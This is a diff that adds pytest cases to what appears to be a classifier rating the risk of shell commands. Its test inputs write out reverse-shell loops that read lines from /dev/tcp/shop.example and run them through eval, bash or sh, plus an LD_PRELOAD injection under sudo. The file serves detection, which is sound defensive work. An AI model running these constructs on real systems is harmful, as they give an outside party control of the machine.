@@ -181,3 +181,41 @@ def test_where_a_text_came_from_stays_known_when_it_is_changed(judging: Judging,
 )
 def test_a_trap_is_judged_by_what_runs_later(judging: Judging, line: str, level: Level) -> None:
     assert judging.level(line) is level
+
+
+@pytest.mark.parametrize(
+    "run", ["$l", 'eval "$l"', 'bash -c "$l"', "sh <<< $l", "$l >&5 2>&5", 'x=1; sudo sh -c "$l"', "echo $l | sh"]
+)
+def test_lines_out_of_a_connection_that_are_run_let_somebody_else_control_the_machine(
+    judging: Judging, run: str
+) -> None:
+    assert judging.level(f"exec 5<>/dev/tcp/shop.example/1; while read l; do {run}; done <&5") is Level.CRITICAL_RED
+
+
+@pytest.mark.parametrize("run", ["mapfile a; ${a[0]}", "read -a a; ${a[0]}", "read; $REPLY", "sh"])
+def test_whatever_reads_the_lines_of_a_connection(judging: Judging, run: str) -> None:
+    assert judging.level(f"{{ {run}; }} </dev/tcp/shop.example/1") is Level.CRITICAL_RED
+
+
+@pytest.mark.parametrize(
+    "line", ["exec 5<>/dev/tcp/shop.example/80; read l <&5; echo $l", "bash a.sh | sh", "sh -c ls | sh"]
+)
+def test_an_answer_that_is_not_run_controls_nothing(judging: Judging, line: str) -> None:
+    assert Kind.CONTROL not in {action.kind for action in judging.shell(line).actions}
+
+
+@pytest.mark.parametrize(
+    "line", ["time", "time -p", "! time", "time; ls", "env x=1 -- ls", "env -i x=1 -- ls", "env -- ls"]
+)
+def test_a_word_before_a_command_that_does_nothing_by_itself(judging: Judging, line: str) -> None:
+    assert judging.level(line) is Level.GREEN
+
+
+def test_a_variable_for_a_program_with_all_rights_has_all_rights_too(judging: Judging) -> None:
+    assert "privileged" in judging.action("sudo LD_PRELOAD=a.so ls", Kind.RUN_CODE).traits
+    assert judging.level("sudo LD_PRELOAD=a.so ls") is Level.RED
+    assert judging.level("LD_PRELOAD=a.so ls") is Level.YELLOW
+
+
+def test_a_variable_is_named_once(judging: Judging) -> None:
+    assert judging.action("export PATH=", Kind.RUN_CODE).form == "PATH variable"
